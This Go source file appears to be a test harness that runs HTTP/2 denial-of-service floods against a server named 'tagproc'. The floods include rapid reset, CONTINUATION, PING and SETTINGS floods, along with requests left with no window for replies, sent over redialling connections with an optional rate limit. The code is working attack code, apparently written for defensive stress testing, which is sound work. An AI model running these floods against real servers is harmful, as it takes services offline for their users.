package hostile

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// A Flood sends the same few frames on a few connections, for as long as it
// lasts, and opens a connection again when tagproc closes it.
type Flood struct {
	settings []http2.Setting
	deaf     bool // reads nothing of what tagproc sends
	// hold is how many streams of a connection, one for each unit, are to be open at a
	// time; 0: as many as come.
	hold int
	// begin, which may be nil, puts what comes first on a connection into its buffer.
	begin func(p *Peer) error
	// unit puts the n-th unit of a connection, counted from 0, into its buffer.
	unit func(p *Peer, n int) error
}

const (
	floodConnections   = 4 // of FloodRole
	unitsPerWrite      = 50
	unitsPerConnection = 1 << 29 // the ids of streams reach no further
	redialPause        = 5 * time.Millisecond
)

// Floods are what is sent too often, or without end, by their names in the table.
var Floods = []struct {
	Name string
	Flood
}{
	{"rapid reset: streams opened and reset", Flood{unit: func(p *Peer, n int) error {
		return errors.Join(p.Open(n), p.Frames.WriteRSTStream(StreamID(n), http2.ErrCodeCancel))
	}}},
	{"rapid reset: streams opened, asked and reset", Flood{unit: func(p *Peer, n int) error {
		return errors.Join(p.Ask(n), p.Frames.WriteRSTStream(StreamID(n), http2.ErrCodeCancel))
	}}},
	// The server resets a stream itself when its window grows by 0.
	{"streams opened and made to be reset", Flood{unit: func(p *Peer, n int) error {
		return errors.Join(p.Open(n), p.Frames.WriteWindowUpdate(StreamID(n), 0))
	}}},
	{"calls of a method that is not there", Flood{unit: func(p *Peer, n int) error {
		return p.Frames.WriteHeaders(http2.HeadersFrameParam{
			StreamID: StreamID(n), BlockFragment: strangeHeaders, EndHeaders: true, EndStream: true,
		})
	}}},
	{"PING flood", Flood{unit: func(p *Peer, _ int) error {
		return p.Frames.WritePing(false, [8]byte{})
	}}},
	{"PING flood, nothing read", Flood{deaf: true, unit: func(p *Peer, _ int) error {
		return p.Frames.WritePing(false, [8]byte{})
	}}},
	{"SETTINGS flood", Flood{unit: func(p *Peer, n int) error {
		return p.Frames.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1<<16 + n%2)})
	}}},
	{"CONTINUATION flood, of headers", Flood{begin: beginHeaders, unit: func(p *Peer, _ int) error {
		return p.Frames.WriteContinuation(StreamID(0), false, fillerHeaders)
	}}},
	{"CONTINUATION flood, of nothing", Flood{begin: beginHeaders, unit: func(p *Peer, _ int) error {
		return p.Frames.WriteContinuation(StreamID(0), false, nil)
	}}},
	{"requests without window for the reply", Flood{settings: []http2.Setting{noWindow}, unit: (*Peer).Ask}},
	{"requests, nothing read", Flood{deaf: true, unit: (*Peer).Ask}},
}

// noWindow takes the right to send any reply.
var noWindow = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}

var (
	strangeHeaders = headerBlock(
		":method", "POST", ":scheme", "http", ":path", "/no/such/method", ":authority", "tagproc",
		"content-type", "application/grpc", "te", "trailers",
		"grpc-timeout", "99999999H", // a timer, which nobody may forget
	)
	fillerHeaders = headerBlock("x-filler", string(bytes.Repeat([]byte("x"), 1<<10)))
)

// beginHeaders begins the headers of a stream and does not end them.
func beginHeaders(p *Peer) error {
	return p.Frames.WriteHeaders(http2.HeadersFrameParam{StreamID: StreamID(0), BlockFragment: processHeaders})
}

// FloodRole floods an address until ctx ends. Its arguments are the number of the
// flood, the address, and how many units there may be per second: 0 is no bound.
// It says how many units were sent, and how many connections tagproc closed.
func FloodRole(ctx context.Context, args []string, say func(string)) error {
	var f, rate int
	var address string
	if _, err := fmt.Sscan(strings.Join(args, " "), &f, &address, &rate); err != nil {
		return err
	}
	say("flooding")
	sent, closed, err := Floods[f].Run(ctx, address, floodConnections, rate)
	say(fmt.Sprint(sent, closed))
	return err
}

// Run floods address over connections until ctx ends. It returns how many units were sent, and how
// many connections tagproc closed. No more units are sent than rate says, per
// second and over all connections; 0 is no bound.
func (f Flood) Run(ctx context.Context, address string, connections, rate int) (sent, closed int64, err error) {
	var s, c atomic.Int64
	var group sync.WaitGroup
	errs := make([]error, connections)
	for i := range errs {
		group.Go(func() {
			for ctx.Err() == nil && errs[i] == nil {
				errs[i] = f.connection(ctx, address, rate/connections, &s)
				if ctx.Err() == nil {
					c.Add(1)
					Rest(ctx, redialPause)
				}
			}
		})
	}
	group.Wait()
	return s.Load(), c.Load(), errors.Join(errs...)
}

// connection floods one connection until tagproc closes it or ctx ends. It is an
// error if none can be opened.
func (f Flood) connection(ctx context.Context, address string, rate int, sent *atomic.Int64) error {
	p, err := Dial(ctx, address)
	if ctx.Err() != nil {
		return nil
	}
	if err != nil {
		return err
	}
	defer p.Close()
	defer context.AfterFunc(ctx, func() { p.Conn.Close() })() // a write that tagproc does not take ends
	if !f.deaf {
		p.ReadOn()
	}
	if err := p.Greeting(f.settings...); err != nil {
		return err
	}
	if f.begin != nil {
		if err := f.begin(p); err != nil {
			return err
		}
	}
	var pause time.Duration
	if rate > 0 {
		pause = time.Second * unitsPerWrite / time.Duration(rate)
	}
	for n := 0; n < unitsPerConnection && ctx.Err() == nil; n += unitsPerWrite {
		for i := range unitsPerWrite {
			if err := f.unit(p, n+i); err != nil {
				return err
			}
		}
		if p.Send() != nil {
			return nil
		}
		for f.hold > 0 && n+2*unitsPerWrite > f.hold+int(p.Ended.Load()) && ctx.Err() == nil && p.reads.Load() {
			Rest(ctx, redialPause)
		}
		sent.Add(unitsPerWrite)
		Rest(ctx, pause)
	}
	return nil
}

// Rest waits for d, or until ctx ends.
func Rest(ctx context.Context, d time.Duration) {
	if d <= 0 {
		return
	}
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}
